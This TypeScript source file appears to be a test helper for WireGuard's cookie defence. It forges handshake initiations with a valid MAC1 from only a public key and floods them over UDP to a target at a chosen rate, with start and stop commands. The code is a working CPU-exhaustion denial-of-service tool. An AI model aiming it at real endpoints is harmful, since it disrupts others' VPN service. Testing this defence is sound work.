/**
 * Junk initiations that carry a valid MAC1: what an attacker who knows only the public key can send, and what cookies are
 * for (WireGuard §5.3). Each costs the receiver a Diffie-Hellman before it proves to be junk.
 */
import { randomFillSync } from 'node:crypto';
import { createSocket } from 'node:dgram';
import { blake2s } from '@noble/hashes/blake2.js';
import { serveJsonLines } from './json-lines.ts';

function makeJunk(publicKey: string, count: number): Buffer[] {
  const label = Buffer.from('mac1----');
  const key = blake2s(Buffer.concat([label, Buffer.from(publicKey, 'base64')]));
  return Array.from({ length: count }, () => {
    const message = Buffer.alloc(148);
    randomFillSync(message, 4, 112);
    message.writeUInt32LE(1, 0);
    message.set(blake2s(message.subarray(0, 116), { key, dkLen: 16 }), 116);
    return message;
  });
}

let isRunning = false;
let sent = 0;

async function flood(address: string, port: number, junk: readonly Buffer[], everyMs: number): Promise<void> {
  const isV6 = address.includes(':');
  const options = { type: isV6 ? 'udp6' : 'udp4', sendBufferSize: 4 << 20 } as const;
  const socket = createSocket(options);
  await new Promise<void>(resolve => socket.connect(port, address, resolve));
  socket.on('error', () => {});
  socket.on('message', () => {});
  while (isRunning) {
    for (const message of junk) socket.send(message);
    sent += junk.length;
    await new Promise(resolve => setTimeout(resolve, everyMs));
  }
  socket.close();
}

serveJsonLines((op, args) => {
  if (op === 'start') {
    isRunning = true;
    void flood(args.address, args.port, makeJunk(args.publicKey, args.burst), args.everyMs);
  } else if (op === 'stop') isRunning = false;
  return { sent };
});
